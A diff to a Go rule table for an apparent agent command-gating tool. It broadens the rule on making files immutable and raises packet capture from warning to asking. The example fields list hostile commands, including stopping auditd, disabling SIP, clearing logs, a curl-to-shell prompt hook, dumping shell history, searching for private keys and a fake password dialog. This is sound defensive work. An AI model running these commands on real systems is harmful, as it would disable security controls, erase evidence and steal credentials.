@@ -17,7 +17,7 @@ var rules = []analysis.Rule{
 	{ID: "defense.security-stop", Action: toolwall.Ask, Protects: "security services (auditd, EDR, antivirus) from being stopped", Example: "systemctl stop auditd"},
 	{ID: "defense.protection-off", Action: toolwall.Ask, Protects: "OS protections (SIP, Gatekeeper, AppArmor, Defender)", Example: "csrutil disable"},
 	{ID: "defense.backup-delete", Action: toolwall.Ask, Protects: "backups and snapshots", Example: "tmutil delete /Volumes/Backup/x"},
-	{ID: "defense.immutable", Action: toolwall.Ask, Protects: "against files made immutable or append-only to resist removal", Example: "chattr +i /etc/passwd"},
+	{ID: "defense.immutable", Action: toolwall.Ask, Protects: "against files made immutable or append-only to resist removal (system and startup files either way, any file outside the project when set)", Example: "chattr +i /etc/passwd"},
 	{ID: "defense.timestomp", Action: toolwall.Warn, Protects: "file times used to find changes", Example: "touch -r /etc/hosts /etc/cron.d/job"},
 	{ID: "defense.log-tamper", Action: toolwall.Ask, Protects: "system logs from being cleared or silenced", Example: "journalctl --vacuum-time=1s"},
 	{ID: "defense.shell-hook", Action: toolwall.Ask, Protects: "against prompt and trap hooks that run code on every command", Example: "PROMPT_COMMAND='curl x|sh'"},
@@ -29,6 +29,6 @@ var rules = []analysis.Rule{
 	{ID: "creddump.history", Action: toolwall.Ask, Protects: "shell history (typed secrets) from being copied out", Example: "history -w /tmp/h.txt"},
 	{ID: "creddump.key-search", Action: toolwall.Warn, Protects: "against searches for private key files", Example: "find / -name id_rsa"},
 	{ID: "creddump.fake-prompt", Action: toolwall.Ask, Protects: "the user from fake password prompts", Example: `osascript -e 'display dialog "Password:" default answer "" with hidden answer'`},
-	{ID: "creddump.sniff", Action: toolwall.Warn, Protects: "network traffic from capture", Example: "tcpdump -i any"},
+	{ID: "creddump.sniff", Action: toolwall.Ask, Protects: "network traffic from live capture (a few packets' headers only warn)", Example: "tcpdump -i any"},
 	{ID: "defense.audit-change", Action: toolwall.Ask, Protects: "the kernel audit configuration from rules added or changed (a rule on execve logs every command with its arguments)", Example: "auditctl -a always,exit -F arch=b64 -S execve -k cmds"},
 }
